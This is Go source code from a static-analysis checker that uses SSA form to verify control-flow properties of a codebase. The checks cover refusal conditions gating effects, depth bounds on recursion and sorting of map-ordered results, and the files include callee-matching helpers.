	run := &gateRun{p: r.P, fn: s.Fn, g: g, checkVals: map[ssa.Value]Polarity{}, passEdges: EdgeSet{}}
	edges := EdgeSet{}
	sites, tested, _ := run.findPassEdges(s.Cond, edges)
	run.checkVals = map[ssa.Value]Polarity{}
	run.checkCalls = nil
	effects := eff.Sites(run)
	removed := EdgeSet{}
	run.assumeEdges(removed)
	r.Sites += sites + tested + len(effects)
	min := s.Min
	if min == 0 {
		min = 1
	}
	if len(edges) < min && !s.noLift {
		// the refusal may have been extracted into a helper of the same package: the helper must refuse (its own success is
		// unreachable when the condition holds) and the helper's success must gate the effect here
		for _, b := range s.Fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				h := call.Common().StaticCallee()
				if h == nil || h == s.Fn || len(h.Blocks) == 0 || h.Pkg == nil || s.Fn.Pkg == nil || h.Pkg != s.Fn.Pkg || h.Parent() != nil {
					continue
				}
				res := h.Signature.Results()
				if res.Len() == 0 || !isErrorType(res.At(res.Len()-1).Type()) {
					continue
				}
				sub := NewReport(r.Prop, r.Tier, r.P)
				sub.Refuse(Refuse{ID: s.ID, Fn: h, Cond: s.Cond, Min: s.Min, Exists: s.Exists, noLift: true})
				if len(sub.Obls) != 1 || sub.Obls[0].Status != Discharged {
					continue
				}
				gg := &Gate{Fn: s.Fn, Effect: eff, Check: ErrCheck(SSAFn(h, r.P.FuncName(h)))}
				gr := r.P.RunGate(gg)
				if gr.CheckSites >= 1 && len(gr.Violations) == 0 && len(gr.Complaints) == 0 {
					r.Sites += sub.Sites
					r.OK(key, rule, r.P.Pos(s.Fn.Pos()), "refused inside the helper "+r.P.FuncName(h)+", whose error gates "+eff.Desc+" here: "+sub.Obls[0].Detail, true)
					return
				}
			}
		}
	}
	if len(edges) < min {
		r.Bad(key, rule, r.P.Pos(s.Fn.Pos()), fmt.Sprintf("condition [%s] is tested on %d branch(es) in %s, expected >= %d: the refusal is missing", s.Cond.Desc, len(edges), r.P.FuncName(s.Fn), min))
		return
	}
	refusing := 0
	var bad []string
	for e := range edges {
		reach := ReachFromEdge(e, removed, nil)
		hit := ""
		for _, ef := range effects {
			if len(ef.Seq) == 0 {
				if reach[ef.Block] {
					hit = r.P.Pos(ef.Pos)
				}
				continue
			}
			// the value-selecting edges may lie before or after the condition edge: split the sequence
			for k := 0; k <= len(ef.Seq) && hit == ""; k++ {
				if k > 0 && !Reach(ef.Seq[k-1].To(), removed, nil)[e.From] {
					continue
				}
				cur, ok := reach, true
				for _, ed := range ef.Seq[k:] {
					if !cur[ed.From] || removed[ed] {
						ok = false
						break
					}
					cur = Reach(ed.To(), removed, nil)
				}
				if ok && cur[ef.Block] {
					hit = r.P.Pos(ef.Pos)
				}
			}
		}
		if hit == "" {
			refusing++
		} else {
			bad = append(bad, fmt.Sprintf("from the branch at %s where the condition holds, %s at %s is reachable", r.P.Pos(blockPos(e.From)), eff.Desc, hit))
		}
	}
	sort.Strings(bad)
	if (s.Exists && refusing >= min) || (!s.Exists && len(bad) == 0) {
		r.OK(key, rule, r.P.Pos(s.Fn.Pos()), fmt.Sprintf("condition edges=%d, refusing=%d, effect sites=%d", len(edges), refusing, len(effects)), true)
		return
	}
	r.Bad(key, rule, r.P.Pos(s.Fn.Pos()), strings.Join(bad, " || "))
}

// ReturnsConstBool: every return whose idx-th result is a boolean constant (either value).
func ReturnsConstBool(idx int) Effect {
	return Effect{Desc: "return of a boolean constant", Sites: func(g *gateRun) []effSite {
		return g.returnSites(func(sig *types.Signature) int { return idx }, func(v ssa.Value, at *ssa.BasicBlock, _ *Edge) bool {
			_, ok := ConstBool(v)
			return ok
		})
	}}
}

// FuelSpec: a recursive resolver keeps its fuel: the recursive call is reachable only while depth < max, and the cycle
// passes depth+1.
type FuelSpec struct {
	ID        string
	Fn        *ssa.Function // the function with the depth gate
	Depth     string        // name of the depth parameter
	Recursive Callee        // the call in Fn that continues the recursion (to itself or to the helper)
	Back      *ssa.Function // optional helper that calls back into Fn
	BackCall  Callee        // the call in Back to Fn
}

func (r *Report) Fuel(s FuelSpec) {
	rule := "FUEL: recursion through " + s.Recursive.Desc + " is reachable only below the depth bound and passes depth+1"
	if s.Fn == nil {
		r.Lost(s.ID, rule, "anchored function not found")
		return
	}
	// (1) gate: recursive call only via depth >= max being false
	r.Gate(Gate{ID: s.ID + ".bound", Fn: s.Fn, Effect: CallEffect(s.Recursive),
		Check: CmpCheck(s.Depth+" >= max is false", token.LSS, ParamV(s.Depth), AnyV(), true)})
	// (2) some call on the cycle passes depth+1 and the others pass depth (never a constant or a smaller value)
	inc := 0
	var bad []string
	check := func(fn *ssa.Function, c Callee) {
		for _, ci := range Calls(fn, c) {
			found := false
			for _, a := range ci.Common().Args {
				if AddConstV(ParamV(s.Depth), 1).M(a) {
					inc++
					found = true
				} else if ParamV(s.Depth).M(a) {
					found = true
				}
			}
			if !found {
				bad = append(bad, "call at "+r.P.Pos(ci.Pos())+" does not pass the depth counter")
			}
		}
	}
	check(s.Fn, s.Recursive)
	if s.Back != nil {
		check(s.Back, s.BackCall)
	}
	key := s.ID + ".increment @ " + r.P.FuncName(s.Fn)
	r.Sites += inc + len(bad)
	if len(bad) > 0 || inc == 0 {
		if inc == 0 {
			bad = append(bad, "no call on the recursive cycle passes depth+1")
		}
		r.Bad(key, rule, r.P.Pos(s.Fn.Pos()), strings.Join(bad, "; "))
		return
	}
	r.OK(key, rule, r.P.Pos(s.Fn.Pos()), fmt.Sprintf("%d incrementing call(s) on the cycle", inc), true)
}

// ReturnsConstBoolVal: returns whose idx-th result is the given boolean constant.
func ReturnsConstBoolVal(idx int, want bool) Effect {
	return Effect{Desc: fmt.Sprintf("return of the constant %v", want), Sites: func(g *gateRun) []effSite {
		return g.returnSites(func(sig *types.Signature) int { return idx }, func(v ssa.Value, at *ssa.BasicBlock, _ *Edge) bool {
			b, ok := ConstBool(v)
			return ok && b == want
		})
	}}
}

// MapOK: the ok result of comma-ok map lookups in a map stored in a field named `field` ("" = any map).
func MapOK(field string) Check {
	return Check{Desc: "comma-ok lookup in map " + field, Pass: IsTrue, Values: func(fn *ssa.Function) []ssa.Value {
		var out []ssa.Value
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				lk, ok := in.(*ssa.Lookup)
				if !ok || !lk.CommaOk {
					continue
				}
				if field != "" && !FieldV("", field).M(lk.X) {
					continue
				}
				for _, ref := range *lk.Referrers() {
					if ex, ok := ref.(*ssa.Extract); ok && ex.Index == 1 {
						out = append(out, ex)
					}
				}
			}
		}
		return out
	}}
}

// StoresOnAllPaths reports whether every path from fn's entry to a return passes a store into the named field
// (of any struct); it returns the number of such stores found.
func StoresOnAllPaths(fn *ssa.Function, typ, field string) (n int, ok bool) {
	blocked := map[*ssa.BasicBlock]bool{}
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if st, isSt := in.(*ssa.Store); isSt {
				if fa, isFA := st.Addr.(*ssa.FieldAddr); isFA && fieldNameIs(fa.X.Type(), fa.Field, typ, field) {
					blocked[b] = true
					n++
				}
			}
		}
	}
	if n == 0 || len(fn.Blocks) == 0 {
		return n, false
	}
	seen := map[*ssa.BasicBlock]bool{}
	var stack []*ssa.BasicBlock
	if !blocked[fn.Blocks[0]] {
		stack = append(stack, fn.Blocks[0])
		seen[fn.Blocks[0]] = true
	}
	for len(stack) > 0 {
		b := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		if len(b.Instrs) > 0 {
			if _, isRet := b.Instrs[len(b.Instrs)-1].(*ssa.Return); isRet {
				return n, false
			}
		}
		for _, s := range b.Succs {
			if !seen[s] && !blocked[s] {
				seen[s] = true
				stack = append(stack, s)
			}
		}
	}
	return n, true
}

// MapOKPol is MapOK with an explicit pass polarity (IsFalse: the effect is allowed only when the key is absent).
func MapOKPol(field string, pol Polarity) Check {
	c := MapOK(field)
	c.Pass = pol
	if pol == IsFalse {
		c.Desc += " is false"
	}
	return c
}

// ConstNilReturn: a return whose last result is the constant nil (an explicit success return; returns of computed
// errors are not included).
func ConstNilReturn() Effect {
	return InstrEffect("return <..., nil>", func(in ssa.Instruction) bool {
		ret, ok := in.(*ssa.Return)
		if !ok || len(ret.Results) == 0 {
			return false
		}
		c, ok := unspill(ret.Results[len(ret.Results)-1]).(*ssa.Const)
		return ok && c.IsNil()
	})
}

// SameExpr: structural equality of two SSA expressions (go/ssa performs no common-subexpression elimination, so the same
// source expression evaluated twice yields two values): identical values, loads of the same address expression, field
// or index selections of equal bases, conversions of equal values, or calls of the same static callee / interface method
// with pairwise equal arguments.
func SameExpr(a, b ssa.Value, depth int) bool {
	if a == b {
		return true
	}
	if depth <= 0 || a == nil || b == nil {
		return false
	}
	switch x := a.(type) {
	case *ssa.Const:
		y, ok := b.(*ssa.Const)
		return ok && x.Value != nil && y.Value != nil && x.Value.ExactString() == y.Value.ExactString() && types.Identical(x.Type(), y.Type())
	case *ssa.UnOp:
		y, ok := b.(*ssa.UnOp)
		return ok && x.Op == y.Op && SameExpr(x.X, y.X, depth-1)
	case *ssa.FieldAddr:
		y, ok := b.(*ssa.FieldAddr)
		return ok && x.Field == y.Field && SameExpr(x.X, y.X, depth-1)
	case *ssa.Field:
		y, ok := b.(*ssa.Field)
		return ok && x.Field == y.Field && SameExpr(x.X, y.X, depth-1)
	case *ssa.IndexAddr:
		y, ok := b.(*ssa.IndexAddr)
		return ok && SameExpr(x.X, y.X, depth-1) && SameExpr(x.Index, y.Index, depth-1)
	case *ssa.Convert:
		y, ok := b.(*ssa.Convert)
		return ok && SameExpr(x.X, y.X, depth-1)
	case *ssa.ChangeType:
		y, ok := b.(*ssa.ChangeType)
		return ok && SameExpr(x.X, y.X, depth-1)
	case *ssa.MakeInterface:
		y, ok := b.(*ssa.MakeInterface)
		return ok && SameExpr(x.X, y.X, depth-1)
	case *ssa.ChangeInterface:
		y, ok := b.(*ssa.ChangeInterface)
		return ok && SameExpr(x.X, y.X, depth-1)
	case *ssa.Extract:
		y, ok := b.(*ssa.Extract)
		return ok && x.Index == y.Index && SameExpr(x.Tuple, y.Tuple, depth-1)
	case *ssa.Call:
		y, ok := b.(*ssa.Call)
		if !ok || len(x.Call.Args) != len(y.Call.Args) {
			return false
		}
		if x.Call.IsInvoke() != y.Call.IsInvoke() {
			return false
		}
		if x.Call.IsInvoke() {
			if x.Call.Method != y.Call.Method || !SameExpr(x.Call.Value, y.Call.Value, depth-1) {
				return false
			}
		} else {
			fx, fy := x.Call.StaticCallee(), y.Call.StaticCallee()
			if fx == nil || fx != fy {
				return false
			}
			// calls that produce a fresh value each time are never "the same"
			if fx.Pkg != nil && (fx.Pkg.Pkg.Path() == "time" && fx.Name() == "Now" || fx.Pkg.Pkg.Path() == "crypto/rand" || fx.Pkg.Pkg.Path() == "github.com/google/uuid") {
				return false
			}
		}
		for i := range x.Call.Args {
			if !SameExpr(x.Call.Args[i], y.Call.Args[i], depth-1) {
				return false
			}
		}
		return true
	}
	return false
}

func valueReturned(v ssa.Value) bool {
	if v.Referrers() == nil {
		return false
	}
	for _, ref := range *v.Referrers() {
		switch x := ref.(type) {
		case *ssa.Return:
			return true
		case *ssa.Store:
			_ = x
			return true // stored into a result cell / variable that is examined elsewhere
		case *ssa.Phi:
			return true
		}
	}
	return false
}

type impliesKey struct {
	site *ssa.Call
	fn   *ssa.Function
	desc string
	pass Polarity
}

var impliesMemo = map[impliesKey]int{}

// impliesCheck: does a successful return of h imply that check c passed inside h? Returns the polarity with which h's own
// result signals success (ErrNil for an error result, IsTrue for a sole bool result).
func (p *Prog) impliesCheck(h *ssa.Function, c Check, parent *Gate, lift int, site *ssa.Call) (Polarity, bool) {
	res := h.Signature.Results()
	type attempt struct {
		eff Effect
		pol Polarity
	}
	var attempts []attempt
	switch {
	case res.Len() >= 1 && isErrorType(res.At(res.Len()-1).Type()):
		attempts = []attempt{{SuccessReturn(), ErrNil}}
	case res.Len() == 1 && types.Identical(res.At(0).Type().Underlying(), types.Typ[types.Bool]):
		// a bool helper may signal "the check passed" by true (all checks held) or by false (a filter rejected)
		attempts = []attempt{{ReturnsBool(0, true), IsTrue}, {ReturnsBool(0, false), IsFalse}}
	default:
		return 0, false
	}
	for _, at := range attempts {
		desc := c.Desc + "/" + at.pol.String()
		if parent != nil && parent.ForEach {
			desc += " (for each)"
		}
		k := impliesKey{site, h, desc, c.Pass}
		if m, ok := impliesMemo[k]; ok {
			if m == 1 {
				return at.pol, true
			}
			continue
		}
		impliesMemo[k] = 2 // provisional (recursion)
		g := &Gate{Fn: h, Effect: at.eff, Check: c, lift: lift}
		if parent != nil {
			// the parent accepts any of its alternatives: so may the helper (`return (a || b) && c` implies "a or b")
			if parent.Check.Desc != c.Desc {
				g.Alt = append(g.Alt, parent.Check)
			}
			for _, a := range parent.Alt {
				if a.Desc != c.Desc {
					g.Alt = append(g.Alt, a)
				}
			}
		}
		if parent != nil && parent.ForEach {
			// the per-element loop may have moved into the helper together with the check
			g.ForEach, g.Skip, g.AllowEarlyExit = true, parent.Skip, parent.AllowEarlyExit
		}
		r := p.RunGate(g)
		if g.ForEach && (r.CheckSites == 0 || len(r.Violations) > 0) {
			// ... or only the check moved and the loop stayed in the caller
			g2 := &Gate{Fn: h, Effect: at.eff, Check: c, Alt: g.Alt, lift: lift}
			r = p.RunGate(g2)
		}
		if r.CheckSites >= 1 && r.EffectSites >= 1 && len(r.Violations) == 0 && len(r.Complaints) == 0 {
			impliesMemo[k] = 1
			return at.pol, true
		}
	}
	return 0, false
}

// Match exposes CmpPat.match.
func (c *CmpPat) Match(bin *ssa.BinOp) (holds bool, ok bool) { return c.match(bin) }
