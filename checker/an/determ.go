package an

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// DETERM: no Go map iteration order may reach an ordered result (slice contents, fold, first-match selection,
// callback order) unless the produced slice is sorted before it escapes.

type DetermSpec struct {
	IDPrefix string
	Funcs    []*ssa.Function
	// PureCallees: callee names (Fn notation "pkg.(Recv).name" or bare method names) that are order-insensitive and effect-free.
	Pure map[string]bool
	// Reviewed: FuncName -> reason, for loops whose order exposure is accepted (e.g. an iterator API that promises no order).
	Reviewed map[string]string
	MinLoops int
}

type mapLoop struct {
	fn     *ssa.Function
	rng    *ssa.Range
	header *ssa.BasicBlock
	body   map[*ssa.BasicBlock]bool
}

func findMapLoops(fn *ssa.Function) []mapLoop {
	var out []mapLoop
	loops := Loops(fn)
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			rng, ok := in.(*ssa.Range)
			if !ok {
				continue
			}
			if _, isMap := rng.X.Type().Underlying().(*types.Map); !isMap {
				continue
			}
			for _, ref := range *rng.Referrers() {
				nx, ok := ref.(*ssa.Next)
				if !ok {
					continue
				}
				for _, l := range loops {
					if l.Header == nx.Block() {
						out = append(out, mapLoop{fn: fn, rng: rng, header: l.Header, body: l.Body})
					}
				}
			}
		}
	}
	return out
}

var sortFuncs = map[string]bool{"sort.Slice": true, "sort.SliceStable": true, "sort.Strings": true, "sort.Ints": true, "sort.Sort": true, "sort.Stable": true,
	"slices.Sort": true, "slices.SortFunc": true, "slices.SortStableFunc": true}

func isSortCall(cc *ssa.CallCommon) bool {
	f := cc.StaticCallee()
	if f == nil {
		return false
	}
	name := f.Name()
	if o := f.Origin(); o != nil {
		name = o.Name()
	}
	pk := ""
	if f.Pkg != nil {
		pk = f.Pkg.Pkg.Path()
	} else if o := f.Origin(); o != nil && o.Pkg != nil {
		pk = o.Pkg.Pkg.Path()
	}
	return sortFuncs[pk+"."+name]
}

// fieldKey returns "Type.Field" if v is a load of (or address of) a struct field.
func fieldKey(v ssa.Value) string {
	v = stripConv(v)
	for i := 0; i < 3; i++ {
		switch x := v.(type) {
		case *ssa.UnOp:
			if x.Op != token.MUL {
				return ""
			}
			v = x.X
		case *ssa.FieldAddr:
			t := x.X.Type()
			if p, ok := t.Underlying().(*types.Pointer); ok {
				t = p.Elem()
			}
			st, ok := t.Underlying().(*types.Struct)
			if !ok {
				return ""
			}
			name := "?"
			if n := recvNamed(t); n != nil {
				name = n.Obj().Name()
			}
			return name + "." + st.Field(x.Field).Name()
		default:
			return ""
		}
	}
	return ""
}

// sliceCluster: values connected to v through phis and append(x, ...) chains (same logical slice variable).
func sliceCluster(v ssa.Value) map[ssa.Value]bool {
	seen := map[ssa.Value]bool{}
	var walk func(x ssa.Value)
	walk = func(x ssa.Value) {
		if x == nil || seen[x] {
			return
		}
		seen[x] = true
		switch y := x.(type) {
		case *ssa.Phi:
			for _, e := range y.Edges {
				walk(e)
			}
		case *ssa.Call:
			if b, ok := y.Call.Value.(*ssa.Builtin); ok && b.Name() == "append" {
				walk(y.Call.Args[0])
			}
		}
		if refs := x.Referrers(); refs != nil {
			for _, ref := range *refs {
				switch z := ref.(type) {
				case *ssa.Phi:
					walk(z)
				case *ssa.Call:
					if b, ok := z.Call.Value.(*ssa.Builtin); ok && b.Name() == "append" && z.Call.Args[0] == x {
						walk(z)
					}
				}
			}
		}
	}
	walk(v)
	return seen
}

func (r *Report) Determ(s DetermSpec) {
	p := r.P
	nLoops := 0
	for _, fn := range s.Funcs {
		for _, ml := range findMapLoops(fn) {
			nLoops++
			r.determLoop(s, ml)
		}
	}
	r.Sites += nLoops
	if nLoops < s.MinLoops {
		r.Lost(s.IDPrefix+".loops", "DETERM: map-range loops in scope", fmt.Sprintf("%d map-range loops found, expected >= %d", nLoops, s.MinLoops))
	}
	_ = p
}

func (r *Report) determLoop(s DetermSpec, ml mapLoop) {
	p := r.P
	fname := p.FuncName(Outer(ml.fn))
	rule := "DETERM: the iteration order of a Go map does not reach an ordered result without a sort"
	// key by function + ranged variable name when available
	what := "map"
	switch x := ml.rng.X.(type) {
	case *ssa.UnOp:
		if a, ok := x.X.(*ssa.Alloc); ok {
			what = a.Comment
		} else if k := fieldKey(x); k != "" {
			what = k
		}
	case *ssa.MakeMap:
		what = x.Name()
	case *ssa.Parameter:
		what = x.Name()
	}
	if what == "" || what == "map" {
		if ml.rng.X.Name() != "" {
			what = ml.rng.X.Name()
		}
	}
	key := fmt.Sprintf("%s @ %s range %s", s.IDPrefix, fname, p.rangeExpr(ml))
	pos := p.Pos(ml.rng.Pos())
	if reason, ok := s.Reviewed[fname]; ok {
		r.OK(key, rule, pos, "reviewed exception: "+reason, false)
		return
	}
	var problems []string
	var appends []*ssa.Call
	for b := range ml.body {
		for _, in := range b.Instrs {
			switch x := in.(type) {
			case *ssa.Call:
				if bi, ok := x.Call.Value.(*ssa.Builtin); ok {
					switch bi.Name() {
					case "append":
						appends = append(appends, x)
					case "len", "cap", "delete", "copy", "min", "max":
					default:
						problems = append(problems, fmt.Sprintf("builtin %s in map-ordered loop at %s", bi.Name(), p.Pos(x.Pos())))
					}
					continue
				}
				if isPureCall(s, x.Common()) {
					continue
				}
				problems = append(problems, fmt.Sprintf("call %s at %s happens in map iteration order (fold/callback/effect)", calleeDesc(x.Common()), p.Pos(x.Pos())))
			case *ssa.Go, *ssa.Defer, *ssa.Send:
				problems = append(problems, fmt.Sprintf("%T in map-ordered loop at %s", x, p.Pos(in.Pos())))
			case *ssa.Return:
				// returning from inside the loop selects an element by iteration order unless the results are constants
				for _, res := range x.Results {
					if _, isConst := res.(*ssa.Const); !isConst {
						problems = append(problems, "return of a non-constant from inside the loop (first-match selection) at "+p.Pos(x.Pos()))
						break
					}
				}
			case *ssa.Store:
				switch a := x.Addr.(type) {
				case *ssa.IndexAddr:
					// writes into the varargs array of an append are fine; other indexed stores are order-sensitive
					if _, isAlloc := a.X.(*ssa.Alloc); !isAlloc {
						problems = append(problems, "indexed store in map-ordered loop at "+p.Pos(x.Pos()))
					}
				case *ssa.FieldAddr, *ssa.Alloc, *ssa.FreeVar, *ssa.Global:
					// assignment of a slice built by append is handled through the append; other scalar stores (flags) are
					// order-insensitive only if the stored value is a constant
					if _, isConst := x.Val.(*ssa.Const); !isConst && !isAppendResult(x.Val) {
						problems = append(problems, "store of an element-derived value to a variable/field in map-ordered loop at "+p.Pos(x.Pos())+" (last-writer wins)")
					}
				}
			case *ssa.BinOp:
				if x.Op == token.ADD {
					if bt, ok := x.Type().Underlying().(*types.Basic); ok && bt.Info()&types.IsString != 0 {
						if _, isPhi := x.X.(*ssa.Phi); isPhi {
							problems = append(problems, "string concatenation in map iteration order at "+p.Pos(x.Pos()))
						}
					}
				}
			}
		}
	}
	// loop-carried phis in the header other than the range iterator and append clusters / integer counters
	for _, in := range ml.header.Instrs {
		phi, ok := in.(*ssa.Phi)
		if !ok {
			continue
		}
		if _, isSlice := phi.Type().Underlying().(*types.Slice); isSlice {
			continue // handled via append
		}
		if bt, ok := phi.Type().Underlying().(*types.Basic); ok && bt.Info()&(types.IsInteger|types.IsBoolean) != 0 {
			continue // counters / flags: commutative updates
		}
		problems = append(problems, fmt.Sprintf("loop-carried value %s of type %s is updated in map iteration order (fold)", phi.Comment, phi.Type()))
	}
	// discharge appends by a sort
	for _, ap := range appends {
		if why := r.appendSorted(ml, ap); why != "" {
			problems = append(problems, why)
		}
	}
	r.Sites += len(appends)
	if len(problems) > 0 {
		sort.Strings(problems)
		r.Bad(key, rule, pos, strings.Join(uniqStrings(problems), "; "))
		return
	}
	r.OK(key, rule, pos, fmt.Sprintf("%d append sink(s), each sorted before escaping; no fold, callback or first-match in the loop", len(appends)), true)
}

func mapVarName(ml mapLoop) string {
	switch x := ml.rng.X.(type) {
	case *ssa.UnOp:
		if a, ok := x.X.(*ssa.Alloc); ok && a.Comment != "" {
			return a.Comment
		}
		if k := fieldKey(x); k != "" {
			return k
		}
	case *ssa.Parameter:
		return x.Name()
	}
	// fall back to the source text position-independent ordinal: count of map loops is stable enough via variable name in debug info
	for _, ref := range *ml.rng.X.Referrers() {
		if dr, ok := ref.(*ssa.DebugRef); ok {
			return types.ExprString(dr.Expr)
		}
	}
	return ml.rng.X.Name()
}

func uniqStrings(s []string) []string {
	var out []string
	for i, x := range s {
		if i == 0 || x != s[i-1] {
			out = append(out, x)
		}
	}
	return out
}

func isAppendResult(v ssa.Value) bool {
	c, ok := v.(*ssa.Call)
	if !ok {
		return false
	}
	b, ok := c.Call.Value.(*ssa.Builtin)
	return ok && b.Name() == "append"
}

func calleeDesc(cc *ssa.CallCommon) string {
	if f := calleeFunc(cc); f != nil {
		return f.FullName()
	}
	return "dynamic " + cc.Value.Type().String()
}

func isPureCall(s DetermSpec, cc *ssa.CallCommon) bool {
	f := calleeFunc(cc)
	if f == nil {
		return false
	}
	return s.Pure[f.FullName()] || s.Pure[f.Name()]
}

// appendSorted returns "" if the slice receiving the append is sorted before escaping, else a complaint.
func (r *Report) appendSorted(ml mapLoop, ap *ssa.Call) string {
	p := r.P
	fn := ml.fn
	// where does the appended slice live?
	cluster := sliceCluster(ap)
	fkeys := map[string]bool{}
	for v := range cluster {
		if refs := v.Referrers(); refs != nil {
			for _, ref := range *refs {
				if st, ok := ref.(*ssa.Store); ok && st.Val == v {
					if k := fieldKey(st.Addr); k != "" {
						fkeys[k] = true
					}
				}
			}
		}
		if k := fieldKey(v); k != "" {
			fkeys[k] = true
		}
	}
	sortedIn := func(f *ssa.Function, after ssa.Instruction) bool {
		for _, g := range WithAnons(f) {
			for _, b := range g.Blocks {
				for _, in := range b.Instrs {
					c, ok := in.(*ssa.Call)
					if !ok || !isSortCall(c.Common()) || len(c.Call.Args) == 0 {
						continue
					}
					if after != nil && g == f && !InstrDominates(after, c) {
						continue
					}
					arg := stripConv(c.Call.Args[0])
					if cluster[arg] {
						return true
					}
					if k := fieldKey(arg); k != "" && fkeys[k] {
						return true
					}
				}
			}
		}
		return false
	}
	// (i) same function, after the loop: the sort must not be inside the loop and must be reachable after it; we require
	// that the loop header dominates the sort call's block and the sort is outside the loop body.
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			c, ok := in.(*ssa.Call)
			if !ok || !isSortCall(c.Common()) || len(c.Call.Args) == 0 || ml.body[b] {
				continue
			}
			if !ml.header.Dominates(b) {
				continue
			}
			arg := stripConv(c.Call.Args[0])
			if cluster[arg] {
				return ""
			}
			if k := fieldKey(arg); k != "" && fkeys[k] {
				return ""
			}
		}
	}
	if len(fkeys) == 0 {
		return fmt.Sprintf("append at %s builds a slice in map iteration order that is not sorted in %s", p.Pos(ap.Pos()), p.FuncName(fn))
	}
	// (ii) every module caller sorts the field after the call (depth 2)
	var check func(f *ssa.Function, depth int) bool
	check = func(f *ssa.Function, depth int) bool {
		sites := p.CallSites(SSAFn(f, f.Name()), false)
		if len(sites) == 0 {
			return false
		}
		for _, s := range sites {
			if p.FileClass(p.FuncPos(s.Fn)) != "prod" {
				continue
			}
			if sortedIn(s.Fn, s.Instr) {
				continue
			}
			if depth < 2 && check(s.Fn, depth+1) {
				continue
			}
			return false
		}
		return true
	}
	if check(Outer(fn), 1) {
		return ""
	}
	var ks []string
	for k := range fkeys {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return fmt.Sprintf("append at %s fills %s in map iteration order and neither %s nor its callers sort it afterwards", p.Pos(ap.Pos()), strings.Join(ks, ","), p.FuncName(fn))
}

// rangeExpr renders the ranged expression of the loop from the syntax tree (stable under unrelated edits).
func (p *Prog) rangeExpr(ml mapLoop) string {
	pos := ml.rng.Pos()
	if f, _ := p.AstFile(p.File(pos)); f != nil {
		var found string
		ast.Inspect(f, func(n ast.Node) bool {
			if rs, ok := n.(*ast.RangeStmt); ok && (rs.For == pos || rs.X.Pos() == pos || rs.Pos() == pos) {
				found = types.ExprString(rs.X)
				return false
			}
			return found == ""
		})
		if found != "" {
			return found
		}
	}
	return mapVarName(ml)
}
