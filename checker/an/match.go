package an

import (
	"fmt"
	"go/constant"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// ---------- callee matchers ----------

// Callee matches the target of a call.
type Callee struct {
	Desc string
	M    func(cc *ssa.CallCommon) bool
}

func pkgPath(rel string) string {
	if strings.Contains(rel, ".") && !strings.HasPrefix(rel, "./") { // external import path (has a dot in the domain) or std with no dot handled below
		return rel
	}
	if strings.HasPrefix(rel, "std:") {
		return strings.TrimPrefix(rel, "std:")
	}
	if rel == "" {
		return ModPath
	}
	return ModPath + "/" + rel
}

func recvNamed(t types.Type) *types.Named {
	t = types.Unalias(t)
	if p, ok := t.(*types.Pointer); ok {
		t = types.Unalias(p.Elem())
	}
	n, _ := t.(*types.Named)
	return n
}

func funcIs(f *types.Func, pkg, recv, name string) bool {
	if f == nil || baselineFuncName(f) != name {
		return false
	}
	if f.Pkg() == nil || f.Pkg().Path() != pkg {
		return false
	}
	sig := f.Type().(*types.Signature)
	if recv == "" {
		return sig.Recv() == nil
	}
	if sig.Recv() == nil {
		return false
	}
	n := recvNamed(sig.Recv().Type())
	if n == nil {
		// interface method declared in an anonymous interface
		return false
	}
	return n.Obj().Name() == recv
}

// calleeFunc returns the types.Func called, for static calls and interface invokes.
func calleeFunc(cc *ssa.CallCommon) *types.Func {
	if cc.IsInvoke() {
		return cc.Method
	}
	if f := cc.StaticCallee(); f != nil {
		if o, ok := f.Object().(*types.Func); ok {
			return o
		}
		if f.Origin() != nil {
			if o, ok := f.Origin().Object().(*types.Func); ok {
				return o
			}
		}
		// bound method closure / thunk
		if f.Synthetic != "" && f.Object() == nil {
			return nil
		}
	}
	// calling a bound method value: t0 = make closure (T).m$bound [x]; t0()
	if mc, ok := cc.Value.(*ssa.MakeClosure); ok {
		if fn, ok := mc.Fn.(*ssa.Function); ok {
			if o, ok := fn.Object().(*types.Func); ok {
				return o
			}
		}
	}
	return nil
}

// Fn matches a call (static, interface invoke, or bound) to pkg.(recv).name. pkg is module-relative,
// an external import path, or "std:<path>". For interface receivers, name the interface type.
func Fn(pkg, recv, name string) Callee {
	pp := pkgPath(pkg)
	return Callee{Desc: descOf(pkg, recv, name), M: func(cc *ssa.CallCommon) bool {
		if funcIs(originFunc(calleeFunc(cc)), pp, recv, name) {
			return true
		}
		// interface invoke through a named interface that embeds the declaring interface
		if cc.IsInvoke() && recv != "" && cc.Method != nil && cc.Method.Name() == name {
			if n := recvNamed(cc.Value.Type()); n != nil && n.Obj().Name() == recv && n.Obj().Pkg() != nil && n.Obj().Pkg().Path() == pp {
				return true
			}
		}
		return false
	}}
}

func originFunc(f *types.Func) *types.Func {
	if f == nil {
		return nil
	}
	return f.Origin()
}

func descOf(pkg, recv, name string) string {
	pkg = strings.TrimPrefix(pkg, "std:")
	if recv == "" {
		return pkg + "." + name
	}
	return pkg + ".(" + recv + ")." + name
}

// FnOrImpl matches an invoke of interface method pkg.iface.name, or a static call to a method called name on any
// module type that implements the interface.
func (p *Prog) FnOrImpl(pkg, iface, name string) Callee {
	pp := pkgPath(pkg)
	var it *types.Interface
	if pk := p.lookupTypesPkg(pp); pk != nil {
		if tn, ok := pk.Scope().Lookup(iface).(*types.TypeName); ok {
			it, _ = tn.Type().Underlying().(*types.Interface)
		}
	}
	return Callee{Desc: descOf(pkg, iface, name) + " (or implementation)", M: func(cc *ssa.CallCommon) bool {
		f := originFunc(calleeFunc(cc))
		if f == nil || f.Name() != name {
			return false
		}
		if funcIs(f, pp, iface, name) {
			return true
		}
		if it == nil {
			return false
		}
		sig := f.Type().(*types.Signature)
		if sig.Recv() == nil {
			return false
		}
		rt := sig.Recv().Type()
		if types.IsInterface(rt) {
			// embedded interface: method belongs to another interface that the target embeds
			return false
		}
		return types.Implements(rt, it) || types.Implements(types.NewPointer(rt), it)
	}}
}

func (p *Prog) lookupTypesPkg(path string) *types.Package {
	if pk, ok := p.ByPath[path]; ok {
		return pk.Types
	}
	for _, pk := range p.Pkgs {
		if ip, ok := pk.Imports[path]; ok && ip.Types != nil {
